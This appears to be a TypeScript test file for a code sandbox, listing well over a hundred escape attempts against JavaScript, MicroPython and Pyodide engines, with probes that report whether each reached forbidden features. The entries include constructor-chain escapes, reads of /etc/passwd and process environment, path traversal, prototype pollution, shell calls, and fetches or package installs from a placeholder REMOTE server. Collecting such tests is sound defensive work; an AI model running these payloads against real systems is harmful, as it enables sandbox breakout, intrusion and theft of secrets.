/**
 * An attempt of code to get out of its engine. It is an expression that is passed to `probe`, which answers
 * "nothing …", "threw …" or "REACHED …". `REMOTE` stands for the address of a server that counts requests.
 */
export interface Escape {
  title: string;
  code: string;
}

/** Names of browser features that no engine has. */
const NAMES =
  "fetch XMLHttpRequest WebSocket EventSource WebTransport Worker SharedWorker BroadcastChannel MessageChannel indexedDB caches localStorage sessionStorage document window navigator location importScripts postMessage WebAssembly crypto setTimeout process Deno";

const JAVASCRIPT_PROBE = `
const probe = async (make) => {
  let got;
  try { got = await make(); } catch (error) { return "threw " + error; }
  const seen = (one) => "${NAMES}".split(" ").filter((name) => {
    try { return one !== null && one !== undefined && typeof one[name] !== "undefined"; } catch { return false; }
  });
  const found = [...seen(got), ...seen(globalThis)];
  if (String(got).includes("SECRET") || found.length > 0) return "REACHED " + found + " " + got;
  return "nothing: " + typeof got;
};
`;

const PYTHON_PROBE = `
NAMES = "${NAMES} Function eval constructor globalThis".split()
def probe(make):
    try:
        got = make()
    except BaseException as error:
        return "threw " + repr(error)
    found = [name for name in NAMES if hasattr(got, name)]
    if found or "SECRET" in str(got):
        return "REACHED " + str(found) + str(got)
    return "nothing: " + str(type(got))
`;

/** Escapes by language, in the form in which the two programs run them. */
export const javascriptEscapes: readonly Escape[] = table(`
the global of a function made from text | Function("return this")()
the global of a function made from a host function | files.read.constructor("return this")()
the global of console.log's constructor | console.log.constructor("return globalThis")()
the global of require's constructor | require.constructor("return globalThis")()
the constructor of a constructor of an array | [].constructor.constructor("return globalThis")()
the constructor of what a host function returned | files.list().constructor.constructor("return globalThis")()
the constructor of bytes that the host made | files.bytes("a").buffer.constructor.constructor("return globalThis")()
the constructor of a text that the host made | files.read("a").constructor.constructor("return globalThis")()
the constructor of an error that the host threw | (() => { try { files.read("no"); } catch (error) { return error.constructor.constructor("return globalThis")(); } })()
the constructor of an async function | (async () => {}).constructor("return globalThis")()
the constructor of a generator | (function* () {}).constructor("return globalThis")().next().value
the constructor of an async generator | (async function* () {}).constructor("return globalThis")().next()
indirect eval | (0, eval)("this")
sloppy this | (function () { return this; })()
this of a getter of the prototype | (() => { Object.defineProperty(Object.prototype, "up", { get() { return this; }, configurable: true }); return (0).up; })()
a caller of a host function | (() => { function f() { return f.caller; } return f(); })()
arguments.callee.caller | (function () { return arguments.callee.caller; })()
an import of a module of Node | import("fs")
an import of an address | import("REMOTE/import.js")
an import of a blob | import("blob:null/1")
an import of text | import("data:text/javascript,export default 1")
import.meta | eval("import.meta")
importScripts | importScripts("REMOTE/scripts.js")
fetch | fetch("REMOTE/fetch")
fetch by globalThis | globalThis["fet" + "ch"]("REMOTE/fetch")
XMLHttpRequest | (() => { const x = new XMLHttpRequest(); x.open("GET", "REMOTE/xhr", false); x.send(); return x; })()
WebSocket | new WebSocket("REMOTE/socket".replace("http", "ws"))
EventSource | new EventSource("REMOTE/events")
sendBeacon | navigator.sendBeacon("REMOTE/beacon", "x")
WebTransport | new WebTransport("https://127.0.0.1:1")
an image | (() => { const i = new Image(); i.src = "REMOTE/image"; return i; })()
a font | new FontFace("x", "url(REMOTE/font)").load()
indexedDB | indexedDB.open("escape")
the database by its name | indexedDB.databases()
caches | caches.open("escape")
localStorage | localStorage.getItem("escape")
sessionStorage | sessionStorage.getItem("escape")
cookies | document.cookie
the cookie store | cookieStore.getAll()
the origin's private files | navigator.storage.getDirectory()
the page | window.parent
the opener | opener.postMessage("x", "*")
a message to the page | postMessage({ note: { printed: "SECRET" } })
a spoofed answer | postMessage({ kind: "value", value: "SECRET", printed: "", written: new Map(), call: 1 })
self.postMessage | self.postMessage("ready")
a listener of the worker | addEventListener("message", () => {})
onmessage | (() => { globalThis.onmessage = () => {}; return undefined; })()
closing the worker | close()
another worker | new Worker("REMOTE/worker.js")
a shared worker | new SharedWorker("REMOTE/worker.js")
a worker of a blob | new Worker(URL.createObjectURL(new Blob(["1"])))
a channel to other tabs | new BroadcastChannel("bough")
a message channel | new MessageChannel()
locks of other tabs | navigator.locks.request("x", () => {})
shared memory | Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 1e9)
WebAssembly | new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
a timer | setTimeout("1", 1)
a microtask | queueMicrotask(() => {})
an animation frame | requestAnimationFrame(() => {})
process | process.mainModule.require("child_process")
require of another module | require("child_process")
require of a prototype's name | require("constructor")
require of __proto__ | require("__proto__")
std of QuickJS | std.open("/etc/passwd", "r")
os of QuickJS | os.exec(["ls"])
a file outside | files.read("../../etc/passwd")
a file outside, by its address | files.read("file:///etc/passwd")
a file outside, by an absolute path | files.read("/etc/passwd")
a file outside, by backslashes | files.read("..\\\\..\\\\secret")
a file outside, percent-encoded | files.read("%2e%2e/%2e%2e/secret")
a file outside, after a folder | files.write("a/../../b", "x")
a path with a NUL | files.write("a\\u0000b", "x")
a path with a line's end | files.write("a\\nb", "x")
a path of a mark of direction | files.write("a\\u202eb", "x")
a path that is too long | files.write("a/".repeat(5000) + "b", "x")
a path that is __proto__ | (() => { files.write("__proto__", "x"); return ({}).polluted; })()
a path that is constructor/prototype | (() => { files.write("constructor/prototype", "x"); return ({}).polluted; })()
a path that is an object with a getter | files.read({ toString() { return globalThis; } })
a path that is a proxy | files.read(new Proxy({}, { get: () => () => "../x" }))
a path that changes as it is read | (() => { let n = 0; return files.read({ toString: () => (n++ ? "../x" : "a") }); })()
content whose length lies | files.write("b", new Proxy(new Uint8Array(1), { get: (t, k) => (k === "byteLength" ? 1e9 : t[k]) }))
content that is detached | (() => { const b = new ArrayBuffer(8); const v = new Uint8Array(b); b.transfer?.(); files.write("b", v); })()
bytes beyond a file | files.bytes("a", -1e9, 1e9)
bytes between numbers that are none | files.bytes("a", NaN, Infinity)
toJSON that throws the global | ({ toJSON() { throw globalThis; } })
a result that is a thenable | ({ then(resolve) { resolve(globalThis.fetch); } })
a result whose then is a getter | Object.defineProperty({}, "then", { get() { throw new Error("no"); } })
a result that is a proxy | new Proxy({}, { get() { throw new Error("no"); }, ownKeys() { throw new Error("no"); } })
a result that is a revoked proxy | (() => { const p = Proxy.revocable({}, {}); p.revoke(); return p.proxy; })()
a result with __proto__ as its own key | JSON.parse('{"__proto__": {"polluted": "SECRET"}}').polluted2
a symbol that changes texts | (() => { String.prototype[Symbol.iterator] = () => { throw globalThis; }; return files.list(); })()
stringify replaced | (() => { JSON.stringify = () => { throw new Error("no"); }; return 1; })()
parse replaced | (() => { JSON.parse = () => globalThis; return files.list(); })()
String replaced | (() => { globalThis.String = () => "../x"; return files.read("a") && undefined; })()
the stack of an error | (() => { Error.prepareStackTrace = (_, sites) => sites[0]?.getThis?.(); return new Error("x").stack && undefined; })()
recursion within a host call | (() => { const f = () => files.read({ toString: f }); return f(); })()
recursion by a sort | (() => { const f = () => [2, 1].sort(f); return f(); })()
recursion by JSON | (() => { const o = {}; let p = o; for (let n = 0; n < 1e5; n += 1) p = p.o = {}; return JSON.stringify(o); })()
recursion by a proxy | (() => { let p = {}; for (let n = 0; n < 1e5; n += 1) p = new Proxy(p, {}); return p.x; })()
a finalizer after the call | (() => { new FinalizationRegistry(() => files.write("late", "x")).register({}, 1); return undefined; })()
a weak reference to the host | new WeakRef(console).deref().constructor.constructor("return globalThis")()
an unhandled rejection | (() => { void Promise.reject(globalThis); return undefined; })()
a generator that is left open | (() => { const g = (async function* () { try { yield 1; } finally { files.write("late", "x"); } })(); void g.next(); return undefined; })()
`);

export const pythonEscapes: readonly Escape[] = table(`
js | __import__("js")
js.fetch | __import__("js").fetch("REMOTE/fetch")
js.globalThis | __import__("js").globalThis
js.Function | __import__("js").Function("return globalThis")()
js.eval | __import__("js").eval("globalThis")
js.self | __import__("js").self.postMessage("SECRET")
js by getattr | getattr(__import__("js"), "indexedDB")
js by its dict | __import__("js").__dict__["fetch"]
all of js | exec("from js import *") or globals().get("fetch")
a name of js | exec("from js import postMessage")
js written to | setattr(__import__("js"), "onmessage", print)
the class of js | __import__("js").__class__
jsffi | __import__("jsffi")
jsffi.create_proxy | __import__("jsffi").create_proxy(print)
jsffi.create_proxy of the bridge's name | __import__("jsffi").create_proxy("constructor").constructor
jsffi.to_js | __import__("jsffi").to_js([1, {"a": print}])
jsffi.to_js of a generator | __import__("jsffi").to_js((one for one in [1]))
a JsProxy | __import__("jsffi").JsProxy(0)
a JsProxy without arguments | __import__("jsffi").JsProxy()
a JsProxy by object.__new__ | object.__new__(__import__("jsffi").JsProxy)
a JsException | __import__("jsffi").JsException("constructor")
an attribute of a JsException | __import__("jsffi").JsException("x").constructor
the memory of jsffi | __import__("jsffi").mem_info()
a PyProxy's way back | exec("import jsffi\\nasync def f(): await jsffi.JsException\\nf().send(None)")
a promise | exec("import asyncio\\nasync def f(): await asyncio.sleep(0)\\nf().send(None)")
asyncio's loop | __import__("asyncio").get_event_loop()
asyncio.run | __import__("asyncio").run(None)
asyncio's timer | __import__("asyncio").create_task(print)
asyncio's core | __import__("asyncio.core").core.js
a socket | __import__("socket")
urllib | __import__("urllib.request")
requests | __import__("requests")
network | __import__("network")
ssl | __import__("ssl")
websockets | __import__("websockets")
ffi | __import__("ffi")
ctypes | __import__("ctypes")
subprocess | __import__("subprocess")
os.system | __import__("os").system("ls")
os.getenv | __import__("os").getenv("PATH")
os.fork | __import__("os").fork()
threads | __import__("_thread")
machine | __import__("machine")
a file of the machine | open("/etc/passwd").read()
a folder of the machine | __import__("os").listdir("/etc")
the processes | __import__("os").listdir("/proc/self/fd") and open("/proc/self/environ").read()
standard input | open("/dev/stdin").read(1)
a file outside | open("../../../etc/passwd").read()
a path with a NUL | open("a\\x00b", "w").write("x")
an address as a file | open("REMOTE/file").read()
a mount | __import__("vfs").mount(None, "/m")
an unmount of everything | __import__("vfs").umount("/")
a mount of one's own | exec("import vfs\\nclass F:\\n def mount(self, a, b): pass\\n def open(self, p, m): return globals()\\nvfs.mount(F(), '/m')\\nopen('/m/x')")
another folder as the current one | __import__("os").chdir("/") or open("work/x", "w").write("x") and None
memory of the engine | __import__("uctypes").bytes_at(0, 64) and None
memory beyond the engine | __import__("uctypes").bytes_at(0x7fffffff, 64)
memory written over | __import__("uctypes").bytearray_at(1024, 64) and None
a function's address called | __import__("uctypes").struct(0, {"f": 0x1}) and None
machine code | exec("@micropython.native\\ndef f(): pass\\nf()")
assembler | exec("@micropython.asm_thumb\\ndef f(): nop()\\nf()")
viper | exec("@micropython.viper\\ndef f() -> int:\\n return int(ptr8(0)[0])\\nf()")
the prelude's files | open("/lib/_bough.py").read()[:10]
the prelude's module | __import__("_bough").main.get("fetch")
the prelude replaced | open("/lib/_bough.py", "w").write("def run(): raise SystemExit") and None
the answer's file | open("/lib/_answer.txt", "w").write("value\\n\\"SECRET\\"") and None
subclasses of object | [].__class__.__base__.__subclasses__()
the globals of a function | (lambda: 0).__globals__["fetch"]
the code of a function | (lambda: 0).__code__.co_code
the frame of an exception | exec("try:\\n 1/0\\nexcept Exception as e:\\n e.__traceback__.tb_frame.f_globals['fetch']")
the builtins replaced | exec("import builtins\\nbuiltins.print = None\\nbuiltins.open = None")
the modules replaced | __import__("sys").modules.clear()
the import replaced | exec("import builtins\\nbuiltins.__import__ = lambda *a: None")
standard output read | __import__("sys").stdout.read(1)
a frozen module's path | __import__("sys").path.append("REMOTE/modules") or __import__("escape_module")
a module of one's own named js | exec("open('js.py','w').write('x = 1')\\nimport js\\njs.x")
a stream that is none | exec("import io\\nclass S(io.IOBase):\\n def readinto(self, b): return 2**31\\n def ioctl(self, *a): return 0\\nimport json\\njson.load(S())")
recursion in repr | exec("a = []\\nfor i in range(100000): a = [a]\\nrepr(a)")
recursion in a comparison | exec("a = []\\nb = []\\nfor i in range(100000):\\n a = [a]\\n b = [b]\\na == b")
recursion in the parser | eval("(" * 5000 + ")" * 5000)
recursion in json | __import__("json").loads("[" * 200000)
recursion in __getattr__ | exec("class A:\\n def __getattr__(self, n): return getattr(self, n + 'x')\\nA().x")
`);

/** @param remote address of the server that counts requests */
export function javascriptOf({ code }: Escape, remote: string): string {
  return `${JAVASCRIPT_PROBE}\nawait probe(() => ${code.replaceAll("REMOTE", remote)})`;
}

/** Escapes for whole Python, which has a bridge to JavaScript, but in a worker that has nothing to reach. */
export const wholePythonEscapes: readonly Escape[] = table(`
js | __import__("js").fetch("REMOTE/js")
pyodide_js | __import__("pyodide_js").loadPackage("REMOTE/package.whl")
the loader's pyodide_js | __import__("pyodide._package_loader", fromlist=["pyodide_js"]).pyodide_js.loadPackage("REMOTE/package.whl")
micropip | __import__("micropip").install("REMOTE/package-1.0-py3-none-any.whl")
pyfetch | __import__("pyodide.http", fromlist=["pyfetch"]).pyfetch("REMOTE/pyfetch")
open_url | __import__("pyodide.http", fromlist=["open_url"]).open_url("REMOTE/open")
run_js | __import__("pyodide.code", fromlist=["run_js"]).run_js("fetch('REMOTE/run')")
the constructor of an object's constructor | __import__("pyodide.ffi", fromlist=["to_js"]).to_js([[]]).constructor.constructor("return globalThis")()
a JavaScript object that Python holds | next(o for o in __import__("gc").get_objects() if type(o).__name__ == "JsProxy" and getattr(o, "fetch", None))
any JavaScript object's constructor | [o.constructor.constructor("return globalThis")() for o in __import__("gc").get_objects() if type(o).__name__ == "JsProxy"][0]
a script by ctypes | __import__("ctypes").CDLL(None).emscripten_run_script(b"fetch('REMOTE/ctypes')")
a script that answers by ctypes | __import__("ctypes").pythonapi.emscripten_run_script_int(b"indexedDB.open('escape')")
urllib | __import__("urllib.request").request.urlopen("REMOTE/urllib").read()
http.client | __import__("http.client").client.HTTPConnection("REMOTE".split("/")[2]).request("GET", "/http")
a socket | __import__("socket").create_connection(("127.0.0.1", int("REMOTE".split("/")[2].split(":")[1])), 2)
a browser | __import__("webbrowser").open("REMOTE/browser")
a process | __import__("os").system("curl REMOTE/process")
a file out of the workspace | open("/work/../../escape.txt", "w").write("x") and None
the frame's storage by its proxy | __import__("_pyodide_core").jsnull.constructor("return localStorage")()
`);

const WHOLE_PYTHON_PROBE = `
from pyodide.ffi import run_sync
def probe(make):
    try:
        got = make()
        if hasattr(got, "__await__"):
            got = run_sync(got)
    except BaseException as error:
        return "threw " + repr(error)[:300]
    names = "fetch XMLHttpRequest WebSocket indexedDB caches localStorage document".split()
    found = [name for name in names if getattr(got, name, None) is not None]
    return "REACHED " + str(found) if found or "SECRET" in str(got) else "nothing: " + str(type(got))
`;

export function wholePythonOf({ code }: Escape, remote: string): string {
  return `${WHOLE_PYTHON_PROBE}\nprobe(lambda: ${code.replaceAll("REMOTE", remote)})`;
}

export function pythonOf({ code }: Escape, remote: string): string {
  return `${PYTHON_PROBE}\nprobe(lambda: ${code.replaceAll("REMOTE", remote)})`;
}

function table(text: string): Escape[] {
  return text
    .trim()
    .split("\n")
    .map((line) => {
      const bar = line.indexOf(" | ");
      return { title: line.slice(0, bar), code: line.slice(bar + 3) };
    });
}
